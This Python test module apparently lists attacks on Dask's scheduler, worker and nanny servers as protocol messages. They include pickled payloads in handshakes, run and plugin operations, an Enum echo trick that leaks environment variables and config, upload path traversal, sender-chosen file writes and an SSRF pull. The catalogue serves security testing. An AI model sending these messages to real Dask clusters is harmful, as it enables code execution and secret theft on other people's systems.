"""The attacks on servers, one row for each class and each sink of Dask's protocol.

The one rule: a row is one message and what stock Dask makes of it; it counts only if it ran there
in the same job.
"""

from __future__ import annotations

import pickle
from dataclasses import dataclass
from typing import Any

from tests.dask.live.payloads import Evil, Here

__all__ = ["NEW_MODULES", "REGISTER_WORKER", "ROWS", "Row"]


@dataclass(frozen=True, slots=True)
class Row:
    """One attack on a server.

    :param target: who is sent it: ``scheduler``, ``worker`` or ``nanny``.
    :param say: the messages; a first one that registers opens a stream for what follows.
        ``greet`` in place of an operation stands for Dask's handshake.
    :param effect: what shows that: ``ran`` (a marker), ``leaked`` (a secret in the answer),
        ``wrote`` (a file of the sender's choice) or ``imported``.
    :param by: who runs it, if not the target.
    :param authority: the operation is the attack, payload or none: whoever is granted it, may.
    """

    name: str
    target: str
    say: tuple[dict[str, Any], ...]
    effect: str = "ran"
    by: str = ""
    authority: bool = False


def _ask(op: str, /, **fields: Any) -> dict[str, Any]:
    return {"op": op, **fields}


_CLIENT = _ask("register-client", client=Here("client"), reply=False, versions={})
_GRAPH = _ask(
    "update-graph",
    expr_ser=Evil("opaque"),
    keys=["x"],
    internal_priority=None,
    submitting_task=None,
    span_metadata={"collections": []},
)
REGISTER_WORKER = _ask(
    "register-worker",
    reply=False,
    address=Here("nobody"),
    status="running",
    server_id=Here("client"),
    nthreads=1,
    name=Here("client"),
    resolve_address=False,
    now=0.0,
    resources={},
    memory_limit=1 << 30,
    metrics={
        "memory": 0,
        "bandwidth": {"total": 1, "workers": {}, "types": {}},
        "digests_total_since_heartbeat": {},
        "spilled_bytes": {"memory": 0, "disk": 0},
    },
    services={},
    local_directory="",
    versions={},
    nanny=None,
    extra={},
    stimulus_id="x",
)
_TASK = _ask(
    "compute-task",
    key="x",
    run_id=1,
    run_spec=Evil("pickled"),
    who_has={},
    nbytes={},
    priority=[0],
    duration=1.0,
    stimulus_id="x",
    resource_restrictions=None,
    actor=False,
    annotations={},
    span_id="x",
    function="",
    args="",
    kwargs="",
)


def _enum(module: Any, name: str, member: str) -> dict[str, Any]:
    """Return what makes Dask's decoder take two attributes of any of its modules."""
    read = {"__Enum__": True, "__module__": module, "__name__": name, "name": member}
    return _ask("echo", data=read)


_ENVIRON = _enum("distributed.utils", "os", "environ")
_CONFIG = _enum("dask", "config", "config")
#: Not imported by any server. The inventory asked for distributed.cli.dask_ssh, which the command
#: line of today imports by itself.
#: Each control takes one of them that its target does not know yet.
NEW_MODULES = (
    "dask.diagnostics.profile_visualize",
    "distributed.deploy.old_ssh",
    "dask.dot",
    "distributed.http.proxy",
)
_IMPORT = _enum(Here("new-module"), "os", "environ")

_RUN = _ask("run", function=Evil("bytes", "print"), wait=True)
_NOTED = _ask("identity", note=Evil("opaque"))
_PLUGIN = {"plugin": Evil("bytes"), "name": "x", "idempotent": False}
_UPLOAD = _ask("upload_file", filename=Here("module-name"), data=Here("module"))


def _everywhere(who: str) -> tuple[Row, ...]:
    """Return what any server opens: a field of the handshake, and one of any operation."""
    return (
        Row(f"{who}.handshake.__Pickled__", who, (_ask("greet", note=Evil("pickled")),)),
        Row(f"{who}.any-op.__Pickled__", who, (_ask("identity", note=Evil("pickled")),)),
    )


def _leaks(who: str) -> tuple[Row, ...]:
    return (
        Row(f"{who}.Enum->echo leaks os.environ", who, (_ENVIRON,), effect="leaked"),
        Row(f"{who}.Enum->echo leaks dask.config.config", who, (_CONFIG,), effect="leaked"),
    )


def _on(target: str, name: str, *say: dict[str, Any], **more: Any) -> Row:
    return Row(f"{target}.{name}", target, say, **more)


def _by(who: str, name: str, *say: dict[str, Any], **more: Any) -> Row:
    return Row(f"scheduler.{name}", "scheduler", say, by=who, **more)


_KEY = Evil("bytes", "__import__('operator').attrgetter('address')")

_SCHEDULER = (
    _on("scheduler", "run_function", _ask("run_function", function=Evil("bytes", "print"))),
    _on(
        "scheduler",
        "feed.setup",
        _ask("feed", function=pickle.dumps(print), setup=Evil("bytes", "print"), interval=9),
    ),
    _on("scheduler", "register_scheduler_plugin", _ask("register_scheduler_plugin", **_PLUGIN)),
    _on("scheduler", "workers_to_close.key", _ask("workers_to_close", n=1, minimum=9, key=_KEY)),
    _on("scheduler", "update-graph.expr_ser(client stream)", _CLIENT, _GRAPH),
    _on(
        "scheduler",
        "client-stream.__Pickled__",
        _CLIENT,
        _ask("heartbeat-client", note=Evil("pickled")),
    ),
    _on(
        "scheduler",
        "connection_stream->update-graph(no client registration)",
        _ask("connection_stream"),
        {**_GRAPH, "client": "nobody"},
    ),
    _by("worker", "register_worker_plugin->worker", _ask("register_worker_plugin", **_PLUGIN)),
    _by("worker", "broadcast>run->worker", _ask("broadcast", msg=_RUN)),
    _by("nanny", "broadcast>run->nanny", _ask("broadcast", msg=_RUN, nanny=True)),
    _by("worker", "proxy>run->worker", _ask("proxy", msg=_RUN, worker=Here("worker"))),
    _by(
        "worker",
        "proxy>nested Serialized->worker",
        _ask("proxy", msg=_NOTED, worker=Here("worker")),
    ),
    _by(
        "worker",
        "scatter->worker update_data",
        _ask("scatter", data={"x": Evil("opaque")}, workers=None, client="nobody"),
    ),
    _by(
        "worker",
        "broadcast>upload_file->worker (msgpack only)",
        _ask("broadcast", msg=_UPLOAD),
        authority=True,
    ),
    _on(
        "scheduler",
        "fake-worker reply to broadcast -> scheduler",
        _ask("broadcast", msg=_ask("identity"), workers=[Here("hostile")]),
    ),
    _on(
        "scheduler",
        "worker-stream.__Pickled__",
        REGISTER_WORKER,
        _ask("keep-alive", note=Evil("pickled")),
    ),
)

_WORKER = (
    _on("worker", "run", _RUN),
    _on("worker", "run_coroutine", {**_RUN, "op": "run_coroutine"}),
    _on("worker", "plugin-add", _ask("plugin-add", plugin=Evil("bytes"), name="x")),
    _on("worker", "update_data.Serialized-pickle", _ask("update_data", data={"x": Evil("opaque")})),
    _on(
        "worker",
        "actor_execute.args",
        _ask("actor_execute", actor="x", function="f", args=[Evil("opaque")], kwargs={}),
    ),
    _on(
        "worker",
        "actor_attribute",
        _ask("actor_attribute", actor=Evil("opaque"), attribute="f"),
    ),
    _on("worker", "upload_file(msgpack only)", _UPLOAD, authority=True),
    _on("worker", "connection_stream->compute-task.run_spec", _ask("connection_stream"), _TASK),
    _on(
        "worker",
        "gather(who_has=attacker tcp) SSRF pull",
        _ask("gather", who_has={"pulled": [Here("hostile-tcp")]}),
    ),
)

_NANNY = (
    _on("nanny", "run", _RUN),
    _on("nanny", "plugin_add", _ask("plugin_add", plugin=Evil("bytes"), name="x")),
)

_FILES = (
    _on(
        "scheduler",
        "dump_cluster_state_to_url writes attacker-chosen file (msgpack only)",
        _ask("dump_cluster_state_to_url", url=Here("url"), exclude=[], format="yaml"),
        effect="wrote",
        authority=True,
    ),
    _on(
        "worker",
        "upload_file path traversal (load=False)",
        _ask("upload_file", filename=Here("path"), data=b"x", load=False),
        effect="wrote",
    ),
)


def _of_a_header(who: str, how: str, effect: str = "ran") -> Row:
    return Row(f"{who}.any-op.{how}", who, (_ask("identity", note=Evil(how)),), effect=effect)


#: One class of trick with a typed header each; test_forms.py has all of them in every server.
_HEADERS = (
    _of_a_header("worker", "dask-type"),
    _of_a_header("worker", "object-array"),
    _of_a_header("nanny", "generic-nested"),
    _of_a_header("worker", "cuda"),
    _of_a_header("worker", "without-init", "wrote"),
)

_IMPORTS = tuple(
    _on(who, "Enum imports a submodule", _IMPORT, effect="imported")
    for who in ("scheduler", "worker", "nanny")
)

ROWS = (
    *(row for who in ("scheduler", "worker", "nanny") for row in _everywhere(who)),
    *_SCHEDULER,
    *(row for who in ("scheduler", "worker", "nanny") for row in _leaks(who)),
    *_WORKER,
    *_NANNY,
    *_IMPORTS,
    *_FILES,
    *_HEADERS,
)
